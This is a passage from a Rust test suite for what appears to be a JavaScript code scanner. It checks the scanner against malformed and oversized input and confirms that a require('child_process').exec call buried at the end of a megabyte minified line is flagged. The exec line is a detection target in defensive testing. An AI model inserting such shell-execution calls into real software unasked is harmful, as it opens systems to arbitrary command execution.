    let _ = facts("`${`${`${");
    let _ = facts("'\\u{110000}\\x\\u12'");
    let _ = facts(&"é".repeat(10_000));
    // Over the parse limit: not parsed.
    let big = "a = 1;\n".repeat(MAX_PARSE_BYTES / 7 + 1);
    assert!(big.len() > MAX_PARSE_BYTES);
    assert_eq!(ids(&facts(&big).top_level), ["E4"]);
}

#[test]
fn a_megabyte_minified_line() {
    let mut src = String::new();
    let mut i = 0;
    while src.len() < 1 << 20 {
        src.push_str(&format!(
            "var a{i}=require('m{i}').f({i},\"s{i}\",function(e){{return e.x}});"
        ));
        i += 1;
    }
    src.push_str("require('child_process').exec(c);");
    let f = facts(&src);
    assert!(ids(&f.top_level).contains(&"P2".to_owned()));
}
